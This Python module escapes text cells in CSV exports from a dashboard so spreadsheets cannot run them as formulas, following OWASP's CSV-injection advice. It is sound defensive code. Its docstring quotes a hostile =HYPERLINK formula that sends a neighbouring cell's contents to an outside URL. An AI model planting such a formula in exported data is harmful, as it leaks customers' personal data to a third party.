"""CSV files a spreadsheet opens as data, never as formulas (CSV injection, OWASP).

Customer names, addresses and other text come from the operator's systems and can hold
anything: a name typed as ``=HYPERLINK("http://…?d="&B2,"Bấm vào đây")`` becomes a live
link that sends the neighbouring cell away when the CSV is opened in Excel or LibreOffice.
Every CSV the dashboard writes goes through ``csv_bytes`` here, which prefixes a single
quote to any text cell a spreadsheet would read as a formula, as OWASP advises:

- a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or a
  line feed), also after leading spaces (some spreadsheets trim them before parsing);
- the full-width forms ``＝ ＋ － ＠``, which some spreadsheets normalise to the ASCII ones.

Plain numbers written as text stay as they are (``+84912345567``, ``-5``, ``1.234,5``):
a spreadsheet reads them as numbers, runs nothing, and a phone number keeps its ``+``.
Number columns are never touched: only text columns can carry a formula.

Excel files need none of this: our writers store text cells as strings, which Excel
never evaluates (tests/dashboard/charts/test_spreadsheet_cells.py reads them back to prove it).
"""

import polars as pl

FORMULA_START = r"^[\t\r\n]|^\s*[=+\-@＝＋－＠]"
PLAIN_NUMBER = r"^\s*[+\-]?[0-9][0-9 .,]*$"
ESCAPE = "'"


def formula_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell that a spreadsheet would run prefixed by a quote."""
    text_columns = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(FORMULA_START) & ~pl.col(name).str.contains(PLAIN_NUMBER))
        .then(pl.lit(ESCAPE) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text_columns
    )


def csv_bytes(frame: pl.DataFrame, *, byte_order_mark: bool = True) -> bytes:
    """The frame as formula-safe UTF-8 CSV; with a byte-order mark (the default), so Excel
    opens Vietnamese names correctly."""
    text = formula_safe(frame).write_csv()
    return ("\ufeff" if byte_order_mark else "").encode() + text.encode("utf-8")
